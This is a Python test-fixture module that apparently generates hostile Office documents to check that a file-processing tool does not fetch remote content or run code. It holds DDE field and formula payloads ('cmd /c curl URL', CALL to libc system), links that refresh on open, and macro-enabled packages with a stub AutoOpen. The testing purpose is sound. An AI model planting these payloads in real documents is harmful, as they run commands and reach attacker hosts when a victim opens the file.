"""Word, Excel and PowerPoint files that draw from elsewhere, link to files, or ask the web."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from tests.hostile import office_packages as office
from tests.hostile.hostile_file import SHEET, SLIDES, WORD, HostileFile, Lure, filled

_MACROS: Final = {
    WORD: "application/vnd.ms-word.document.macroEnabled",
    SHEET: "application/vnd.ms-excel.sheet.macroEnabled",
    SLIDES: "application/vnd.ms-powerpoint.presentation.macroEnabled",
}
_EXTENT: Final = 'cx="900000" cy="900000"'
_SHAPE: Final = f'<a:xfrm><a:off x="0" y="0"/><a:ext {_EXTENT}/></a:xfrm><a:prstGeom prst="rect"/>'
_PICTURE: Final = (
    f'<w:p><w:r><w:drawing><wp:inline><wp:extent {_EXTENT}/><wp:docPr id="1" name="x"/>'
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    f'<a:blip r:link="rId1"/></pic:blipFill><pic:spPr>{_SHAPE}</pic:spPr></pic:pic></a:graphicData>'
    "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
_OLE: Final = (
    '<w:p><w:r><w:object><v:shape id="s" style="width:90pt;height:90pt"><v:imagedata r:id="rId1"/>'
    '</v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s" r:id="rId1" '
    'UpdateMode="Always"/></w:object></w:r></w:p>'
)
_VML: Final = (
    '<w:p><w:r><w:pict><v:rect style="width:90pt;height:90pt"><v:fill type="frame" src="URL" '
    'r:href="rId1"/><v:imagedata src="URL" r:href="rId1"/></v:rect></w:pict></w:r></w:p>'
)
# Where the link is: of the main part or of its settings.
_WORD_LINKS: Final = {
    "image": ("png", "image", _PICTURE),
    "ole-link": ("csv", "oleObject", _OLE),
    "vml": ("png", "image", _VML),
    "alt-chunk": ("html", "aFChunk", '<w:altChunk r:id="rId1"/>'),
    "sub-document": ("txt", "subDocument", '<w:subDoc r:id="rId1"/>'),
    "control": ("txt", "control", '<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>'),
    "hyperlink": ("html", "hyperlink", '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
}  # fmt: skip
_WORD_FIELDS: Final = {
    "include-picture": ("png", 'INCLUDEPICTURE "URL" \\d'),
    "include-text": ("txt", 'INCLUDETEXT "URL"'),
    "include-old": ("txt", 'INCLUDE "URL"'),
    "import": ("png", 'IMPORT "URL"'),
    "dde": ("csv", 'DDE cmd "/c curl URL" x'),
    "dde-auto": ("csv", 'DDEAUTO soffice "URL" A1'),
    "link": ("csv", 'LINK Excel.Sheet.12 "URL" A1 \\a'),
    "database": ("csv", 'DATABASE \\d "URL" \\s "SELECT * FROM x"'),
    "reference-document": ("txt", 'RD "URL"'),
}
_WORD_SETTINGS: Final = {
    "template": ("txt", "attachedTemplate", '<w:attachedTemplate r:id="rId1"/>'),
    "mail-merge": (
        "csv",
        "mailMergeSource",
        '<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>',
    ),
}
_FORMULAS: Final = {
    "webservice": ("txt", 'WEBSERVICE("URL")'),
    "filterxml": ("txt", 'FILTERXML(WEBSERVICE("URL"),"//x")'),
    "image": ("png", 'IMAGE("URL")'),
    "hyperlink": ("txt", 'HYPERLINK("URL","x")'),
    "dde": ("csv", "cmd|'/c curl URL'!A0"),
    "dde-function": ("csv", 'DDE("soffice","URL","A1")'),
    "indirect": ("csv", "INDIRECT(\"'URL'#A1\")"),
    "rtd": ("csv", 'RTD("x","URL","A1")'),
    "info": ("txt", 'INFO("directory")&amp;CELL("filename")&amp;CALL("libc","system","J","URL")'),
}
_SHEET_LINKS: Final = {
    "book": ("csv", "externalLinkPath", "[1]One!A1"),
    "book-name": ("csv", "externalLinkPath", "[1]!name"),
}
_SLIDE_LINKS: Final = {
    "image": (
        "png",
        "image",
        '<p:pic><p:nvPicPr><p:cNvPr id="2" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        f'<a:blip r:link="rId9"/></p:blipFill><p:spPr>{_SHAPE}</p:spPr></p:pic>',
    ),
    "video": (
        "png",
        "video",
        '<p:pic><p:nvPicPr><p:cNvPr id="2" name="x"/><p:cNvPicPr/><p:nvPr><a:videoFile '
        'r:link="rId9"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="rId9"/></p:blipFill>'
        f"<p:spPr>{_SHAPE}</p:spPr></p:pic>",
    ),
    "ole-link": (
        "csv",
        "oleObject",
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="2" name="x"/><p:cNvGraphicFramePr/>'
        f'<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext {_EXTENT}/></p:xfrm>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj r:id="rId9" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj>'
        "</a:graphicData></a:graphic></p:graphicFrame>",
    ),
    "fill": (
        "png",
        "image",
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="x"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>'
        f'{_SHAPE}<a:blipFill><a:blip r:link="rId9"/><a:stretch/></a:blipFill></p:spPr></p:sp>',
    ),
    "action": (
        "html",
        "hyperlink",
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="x"><a:hlinkClick r:id="rId9" '
        'action="ppaction://program"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>'
        f"{_SHAPE}</p:spPr></p:sp>",
    ),
}


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield documents that name places of ours, and documents with macros that run when opened."""
    word, sheet, slides = "Word: links and fields", "Excel: links, formulas", "PowerPoint: links"
    for name, (what, kind, body) in _WORD_LINKS.items():
        write = partial(_linked_word, kind, body)
        yield from filled(word, WORD, {name: (what, "URL")}, write, lure, _place(name))
    yield from filled(word, WORD, _WORD_FIELDS, _field, lure, in_turn=True)
    for name, (what, kind, body) in _WORD_SETTINGS.items():
        write = partial(_settings, kind, body)
        yield from filled(word, WORD, {name: (what, "URL")}, write, lure, _place(name))
    yield from filled(sheet, SHEET, _FORMULAS, _formula, lure, in_turn=True)
    for name, (what, kind, formula) in _SHEET_LINKS.items():
        write = partial(_linked_book, kind, formula)
        yield from filled(sheet, SHEET, {name: (what, "URL")}, write, lure, _place(name))
    sources: dict[str, tuple[str, Callable[[str], bytes]]] = {
        "picture": ("png", _sheet_picture),
        "background": ("png", _sheet_background),
        "connection": ("csv", _connection),
    }
    for name, (what, draw) in sources.items():
        yield from filled(sheet, SHEET, {name: (what, "URL")}, draw, lure, _place(name))
    for name, (what, kind, shape) in _SLIDE_LINKS.items():
        write = partial(_linked_slide, kind, shape)
        yield from filled(slides, SLIDES, {name: (what, "URL")}, write, lure, _place(name))
    for media_type, main in _MACROS.items():
        own = f"{main}.12"
        extension = {"w": ".docm", "e": ".xlsm", "p": ".pptm"}[main.split("ms-")[1][0]]
        name = f"macro-on-opening{extension}"
        yield HostileFile("Macros", name, own, partial(_with_macro, media_type, main))


def _place(name: str) -> tuple[str, ...]:
    """Return both places for what is most often seen, and one for the rest."""
    return ("web", "file") if name == "image" else ("web", "file", "name")[len(name) % 3 :][:1]


def _linked_word(kind: str, body: str, url: str) -> bytes:
    body = body.replace("URL", url)
    return office.word(office.paragraph() + body, [("rId1", kind, url)])


def _field(code: str) -> bytes:
    plain = code.replace("&", "&amp;").replace("<", "&lt;")
    parts = "".join(
        f"<w:r>{inside}</w:r>"
        for inside in (
            '<w:fldChar w:fldCharType="begin" w:dirty="true"/>',
            f'<w:instrText xml:space="preserve"> {plain} </w:instrText>',
            '<w:fldChar w:fldCharType="separate"/>',
            "<w:t>result</w:t>",
            '<w:fldChar w:fldCharType="end"/>',
        )
    )
    return office.word(f"{office.paragraph()}<w:p>{parts}</w:p>")


def _settings(kind: str, inside: str, url: str) -> bytes:
    return office.word(
        office.paragraph(),
        [("rId1", "settings", "settings.xml")],
        {
            "word/settings.xml": f"<w:settings {office.SPACES}>{inside}</w:settings>",
            "word/_rels/settings.xml.rels": office.relations([("rId1", kind, url)]),
        },
    )


def _formula(formula: str) -> bytes:
    return office.sheet(office.formulas(formula))


def _linked_book(kind: str, formula: str, url: str) -> bytes:
    link = (
        f'<s:externalLink {office.SPACES}><s:externalBook r:id="rId1"><s:sheetNames>'
        '<s:sheetName val="One"/></s:sheetNames></s:externalBook></s:externalLink>'
    )
    return office.sheet(
        office.formulas(formula),
        book='<s:externalReferences><s:externalReference r:id="rId2"/></s:externalReferences>',
        book_links=[("rId2", "externalLink", "externalLinks/externalLink1.xml")],
        parts={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": office.relations(
                [("rId1", kind, url)]
            ),
        },
    )


def _sheet_picture(url: str) -> bytes:
    anchor = (
        f"<xdr:wsDr {office.SPACES}><xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0"
        "</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
        f'<xdr:ext {_EXTENT}/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="x"/><xdr:cNvPicPr/>'
        '</xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/></xdr:blipFill><xdr:spPr>'
        f"{_SHAPE}</xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>"
    )
    return office.sheet(
        office.formulas() + '<s:drawing r:id="rId1"/>',
        [("rId1", "drawing", "../drawings/drawing1.xml")],
        parts={
            "xl/drawings/drawing1.xml": anchor,
            "xl/drawings/_rels/drawing1.xml.rels": office.relations([("rId1", "image", url)]),
        },
    )


def _sheet_background(url: str) -> bytes:
    return office.sheet(office.formulas() + '<s:picture r:id="rId1"/>', [("rId1", "image", url)])


def _connection(url: str) -> bytes:
    connection = (
        f'<s:connections {office.SPACES}><s:connection id="1" name="x" type="4" refreshOnLoad="1" '
        f'refreshedVersion="4"><s:webPr url="{url}" sourceData="1"/></s:connection></s:connections>'
    )
    return office.sheet(
        office.formulas(),
        book_links=[("rId2", "connections", "connections.xml")],
        parts={"xl/connections.xml": connection},
    )


def _linked_slide(kind: str, shape: str, url: str) -> bytes:
    return office.slides(shape, [("rId9", kind, url)])


def _with_macro(media_type: str, main: str) -> bytes:
    """A package with a project of macros, which is a stub: nothing in it is to be looked at."""
    stub = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()\0" * 300
    match media_type:
        case "application/vnd.openxmlformats-officedocument.wordprocessingml.document":
            room, body = "word", f"<w:document {office.SPACES}><w:body>{office.paragraph()}"
            parts = {"word/document.xml": f"{body}</w:body></w:document>"}
            plain = office.open_xml(media_type, _with(parts, room, stub), main)
        case "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":
            sheet = '<s:sheets><s:sheet name="One" sheetId="1" r:id="rId1"/></s:sheets>'
            parts = {
                "xl/workbook.xml": f"<s:workbook {office.SPACES}>{sheet}</s:workbook>",
                "xl/worksheets/sheet1.xml": (
                    f"<s:worksheet {office.SPACES}>{office.formulas()}</s:worksheet>"
                ),
            }
            plain = office.open_xml(media_type, _with(parts, "xl", stub), main)
        case _:
            parts = {"ppt/presentation.xml": f"<p:presentation {office.SPACES}/>"}
            plain = office.open_xml(media_type, _with(parts, "ppt", stub), main)
    return plain


def _with(parts: dict[str, str], room: str, stub: bytes) -> dict[str, bytes | str]:
    main = next(iter(parts)).rpartition("/")[2]
    vba = ("rId2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "p.bin")
    links = [("rId1", "worksheet", "worksheets/sheet1.xml")] if room == "xl" else []
    return {
        **parts,
        f"{room}/p.bin": stub,
        f"{room}/_rels/{main}.rels": office.relations([*links, vba]),
    }
